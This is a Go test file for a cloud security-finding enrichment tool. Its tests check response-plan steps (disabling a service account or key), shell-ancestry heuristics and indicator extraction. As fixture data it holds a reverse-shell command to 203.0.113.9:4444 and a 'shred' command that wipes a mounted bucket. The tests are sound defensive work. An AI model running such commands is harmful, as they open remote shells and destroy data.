package assess

import (
	"slices"
	"strings"
	"testing"

	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
)

// TestPlanOfAnAPICall: who made the call is followed and stopped, and not asked.
func TestPlanOfAnAPICall(t *testing.T) {
	t.Parallel()
	call := func(category, who string) *finding.Finding {
		f := childShell("java", "sh")
		f.Category, f.Severity, f.Processes = category, finding.High, nil
		f.Access = finding.Access{Principal: who, CallerIP: "203.0.113.9", Region: "RO", MethodName: "google.cloud.run.v1.Services.CreateService"}
		return f
	}
	keyed := func(f *finding.Finding) *finding.Finding {
		f.Access.KeyName = "//iam.googleapis.com/projects/other-prod/serviceAccounts/ci@other-prod.iam.gserviceaccount.com/keys/5d2c"
		return f
	}
	const image, policy = "Execution: Cryptomining Docker Image", "Privilege Escalation: Default Compute Engine Service Account SetIAMPolicy"
	tests := []struct {
		name       string
		f          *finding.Finding
		has, lacks []string
		command    string // of stop_caller
		asked      bool
	}{
		{"a key", keyed(call(image, "ci@other-prod.iam.gserviceaccount.com")), []string{"caller_activity", "disable_key"}, []string{"stop_caller"}, "", false},
		{"a service account", call(image, "ci@other-prod.iam.gserviceaccount.com"), []string{"caller_activity", "stop_caller"}, nil, "gcloud iam service-accounts disable ci@other-prod.iam.gserviceaccount.com", false},
		{"a person", call(image, "eve@example.com"), []string{"caller_activity", "stop_caller"}, nil, "", false},
		{"nobody", call(image, ""), nil, []string{"caller_activity", "stop_caller"}, "", false},
		{"hardly grave", call(policy, "eve@example.com"), []string{"caller_activity"}, []string{"stop_caller"}, "", true},
		{"a process", childShell("java", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), nil, []string{"caller_activity", "stop_caller"}, "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			a := mustDefault(t).Assess(input(tt.f, complete()))
			steps := map[string]Step{}
			for _, st := range a.Plan {
				steps[st.ID] = st
				checkCommand(t, st.ID, st.Command)
			}
			for _, id := range tt.has {
				if steps[id].ID == "" {
					t.Errorf("%s: no step %s", a.Verdict, id)
				}
			}
			for _, id := range tt.lacks {
				if steps[id].ID != "" {
					t.Errorf("%s: step %s", a.Verdict, id)
				}
			}
			if want := "gcloud iam service-accounts keys disable 5d2c --iam-account=ci@other-prod.iam.gserviceaccount.com"; tt.f.Access.KeyName != "" && steps["disable_key"].Command != want {
				t.Errorf("disable_key: %q, want %q", steps["disable_key"].Command, want)
			}
			if !strings.HasPrefix(steps["stop_caller"].Command, tt.command) {
				t.Errorf("stop_caller: %q, want %q", steps["stop_caller"].Command, tt.command)
			}
			if who := tt.f.Access.Principal; who != "" && strings.Contains(steps["contact_owner"].Title, who) != tt.asked {
				t.Errorf("contact_owner: %q; the caller is asked: want %v", steps["contact_owner"].Title, tt.asked)
			}
		})
	}
}

// withCalls adds inputs whose plans hold the steps of API calls and of deleted data.
func withCalls(out map[string]Input) map[string]Input {
	account, key := childShell("java", "sh"), childShell("java", "sh")
	for _, f := range []*finding.Finding{account, key} {
		f.Category, f.Processes = "Execution: Cryptomining Docker Image", nil
		f.Access = finding.Access{Principal: "ci@other-prod.iam.gserviceaccount.com", CallerIP: "203.0.113.9", MethodName: "google.cloud.run.v1.Services.CreateService"}
	}
	key.Access.KeyName = "//iam.googleapis.com/projects/other-prod/serviceAccounts/ci@other-prod.iam.gserviceaccount.com/keys/5d2c"
	bucket := complete()
	bucket.Config.Volumes = []evidence.Volume{{Name: "u", Kind: "gcs", Source: "shop-uploads", Writable: true}, {Name: "r", Kind: "gcs", Source: "read-only"}}
	out["account"], out["key"] = input(account, complete()), input(key, complete())
	out["destroyed"] = input(childShell("java", "sh", "-c", "find /mnt/u -type f -exec shred -uz {} +"), bucket)
	return out
}

// TestAbove: what stands above the child says more than its parent.
func TestAbove(t *testing.T) {
	t.Parallel()
	proc := func(pid, parent int64, args ...string) finding.Process {
		return finding.Process{Name: baseName(args[0]), PID: pid, ParentPID: parent, Args: args}
	}
	tests := []struct {
		name        string
		procs       []finding.Process
		server, fed string
	}{
		{"a shell of a server", []finding.Process{proc(1, 0, "php-fpm"), proc(2, 1, "sh", "-c", "id; ls"), proc(3, 2, "ls")}, "php-fpm started sh", ""},
		{"commands typed", []finding.Process{proc(1, 0, "java"), proc(2, 1, "/bin/sh"), proc(3, 2, "whoami")}, "java started sh", "sh started whoami"},
		{"a build agent", []finding.Process{proc(1, 0, "agent"), proc(2, 1, "sh"), proc(3, 2, "make")}, "", "sh started make"},
		{"npm starts the application", []finding.Process{{Name: "node", PID: 1, Args: []string{"npm start"}}, proc(2, 1, "sh", "-c", "node server.js")}, "", ""},
		{"no shell", []finding.Process{proc(1, 0, "java"), proc(2, 1, "convert", "a", "b")}, "", ""},
		{"the shell itself", []finding.Process{proc(1, 0, "java"), proc(2, 1, "sh")}, "java started sh", ""},
		{"nothing", nil, "", ""},
	}
	for _, tt := range tests {
		f := &finding.Finding{Processes: tt.procs}
		if got := serverShell(f.Tree()); got != tt.server {
			t.Errorf("%s: serverShell = %q, want %q", tt.name, got, tt.server)
		}
		if got := fedShell(f.Tree()); got != tt.fed {
			t.Errorf("%s: fedShell = %q, want %q", tt.name, got, tt.fed)
		}
	}
	if args := firstArgs(&finding.Process{Name: "node", Args: []string{"npm start"}}); !slices.Equal(args, []string{"npm", "start"}) {
		t.Errorf("firstArgs = %q", args)
	}
}

// TestIndicatorsOfTheDetector: the file that the detector is about, and the
// address of an API call, are to be looked for elsewhere.
func TestIndicatorsOfTheDetector(t *testing.T) {
	t.Parallel()
	hash := strings.Repeat("ab", 32)
	file := &finding.File{Path: "/usr/lib/x", SHA256: hash}
	tests := []struct {
		category string
		change   func(*finding.Finding)
		want     string
	}{
		{"Execution: Modified Malicious Library Loaded", func(f *finding.Finding) { f.Processes[1].Libraries = []finding.File{*file} }, hash},
		{"Execution: Added Malicious Binary Executed", func(f *finding.Finding) { f.Processes[1].Binary = file }, hash},
		{"Malicious Script Executed", func(f *finding.Finding) { f.Processes[1].Script = file }, hash},
		{"Unexpected Child Shell", func(f *finding.Finding) { f.Processes[1].Binary = file }, ""},
		{"Execution: Added Malicious Binary Executed", func(f *finding.Finding) { f.Processes[1].Binary = nil }, ""},
		{"Execution: Cryptomining Docker Image", func(f *finding.Finding) { f.Processes, f.Access.CallerIP = nil, "203.0.113.9" }, "203.0.113.9"},
		{"Execution: Cryptomining Docker Image", func(f *finding.Finding) { f.Processes, f.Access.CallerIP = nil, "gce-internal-ip" }, ""},
	}
	for _, tt := range tests {
		f := childShell("java", "sh", "-c", "x")
		f.Category = tt.category
		tt.change(f)
		a := mustDefault(t).Assess(input(f, complete()))
		var got []string
		for _, i := range a.Indicators {
			if i.Kind == "hash" || i.Kind == "ip" {
				got = append(got, i.Value)
			}
		}
		if strings.Join(got, " ") != tt.want {
			t.Errorf("%s: indicators %v, want %q", tt.category, got, tt.want)
		}
	}
}
